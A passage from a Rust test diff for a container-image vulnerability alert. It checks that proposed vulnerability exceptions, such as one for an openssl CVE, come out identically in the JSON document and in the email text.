+        prop_assert!(listed <= MAX_LISTED_FINDINGS);
+        let expected = alert.omitted_findings.saturating_add((alert.findings.len() - listed) as u64);
+        prop_assert_eq!(json["omitted_findings"].as_u64(), Some(expected));
+    }
+}
+
+#[test]
+fn an_exception_can_be_copied_out_of_the_document_and_out_of_the_mail() {
+    let mut alert = alert(AlertKind::ImageBlocked);
+    let repository = alert.image.repository.clone();
+    alert.exceptions = findings()
+        .iter()
+        .filter_map(|finding| ExceptionEntry::proposed(finding, &repository, alert.time))
+        .collect();
+    let message = alert.message();
+    let document: Value = serde_json::from_str(&message.default).unwrap();
+    let proposed = &document["exceptions"][0];
+    insta::assert_snapshot!(proposed, @r#"{"expires":"2026-12-23","owner":"","package":"openssl","reason":"","repositories":["pipeops-prod-api"],"vulnerability":"CVE-2026-1234"}"#);
+    let copied: Vec<Value> = message
+        .email
+        .lines()
+        .filter_map(|line| {
+            line.strip_prefix("  {")
+                .map(|rest| serde_json::from_str(&format!("{{{rest}")).unwrap())
+        })
+        .collect();
+    assert_eq!(&Value::Array(copied), &document["exceptions"]);
+}
